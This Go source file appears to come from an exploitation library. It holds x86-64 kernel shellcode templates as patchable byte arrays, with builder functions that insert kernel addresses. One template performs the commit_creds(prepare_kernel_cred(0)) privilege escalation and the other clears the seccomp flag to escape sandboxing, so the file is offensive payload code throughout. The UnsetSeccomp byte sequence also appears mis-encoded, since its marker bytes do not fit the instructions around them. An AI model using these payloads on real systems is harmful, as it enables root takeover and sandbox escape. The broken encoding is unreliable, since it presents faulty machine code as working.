// Package shellcraft holds shellcode templates as opaque byte data rather
// than logic: each template is a byte sequence carrying one or two 8-byte
// marker sentinels that payload.PatchU64/PatchU32 replace with a
// caller-supplied address or argument at use time. The instruction
// encodings are not interpreted, validated, or re-derived here; this
// package only names, stores, and patches them.
package shellcraft

import "github.com/CuB3y0nd/axium/payload"

// Marker1 and Marker2 are the 8-byte little-endian sentinels every template
// in this package reserves for its first and second patch site.
const (
	Marker1 uint64 = 0xCAFEBABE00000001
	Marker2 uint64 = 0x1337133713370002
)

// EscalatePrivileges is the opaque template for
// "commit_creds(prepare_kernel_cred(0))": a placeholder call through
// Marker1 with a zeroed first argument, followed by a placeholder tail
// call through Marker2 carrying the prior call's return value.
var EscalatePrivileges = []byte{
	0x31, 0xff, // zero the argument register
	0x48, 0xb8, 0x01, 0x00, 0x00, 0x00, 0xbe, 0xba, 0xfe, 0xca, // load Marker1
	0xff, 0xd0, // call through Marker1
	0x48, 0x97, // move the call result into the next argument register
	0x48, 0xb8, 0x02, 0x00, 0x37, 0x13, 0x37, 0x13, 0x37, 0x13, // load Marker2
	0xff, 0xe0, // tail-call through Marker2
}

// BuildEscalatePrivileges patches EscalatePrivileges with the addresses of
// prepare_kernel_cred (pkc) and commit_creds (cc) and appends the result
// to p.
func BuildEscalatePrivileges(p *payload.Buffer, pkc, cc uint64) {
	sc := append([]byte(nil), EscalatePrivileges...)
	payload.PatchU64(sc, Marker1, pkc)
	payload.PatchU64(sc, Marker2, cc)
	p.Push(sc)
}

// UnsetSeccomp is the opaque template for clearing a single bit (Marker2,
// as a precomputed inverted mask) inside a structure reached through an
// offset (Marker1) from a thread-local base: the TIF_SECCOMP-bit-clear
// idiom.
var UnsetSeccomp = []byte{
	0x65, 0x48, 0x8b, 0x04, 0x25, // load the thread-local base
	0x01, 0x00, 0x00, 0x00, // load Marker1 (offset, low bytes)
	0xbe, 0xba, 0xfe, 0xca, // load Marker1 (offset, high bytes)
	0x48, 0x21, 0x30, // apply the mask in place
	0x02, 0x00, 0x37, 0x13, 0x37, 0x13, 0x37, 0x13, // load Marker2 (mask)
	0xc3, // return
}

// BuildUnsetSeccomp patches UnsetSeccomp with a current_task offset and a
// precomputed bit-clear mask (^(1<<tifSeccompBit)) and appends the result
// to p. Computing the mask from a bit index is the caller's concern, not
// this package's, since shellcraft stores templates rather than logic.
func BuildUnsetSeccomp(p *payload.Buffer, taskStructOffset uint64, clearMask uint32) {
	sc := append([]byte(nil), UnsetSeccomp...)
	payload.PatchU64(sc, Marker1, taskStructOffset)
	payload.PatchU32(sc, uint32(Marker2&0xffffffff), clearMask)
	p.Push(sc)
}
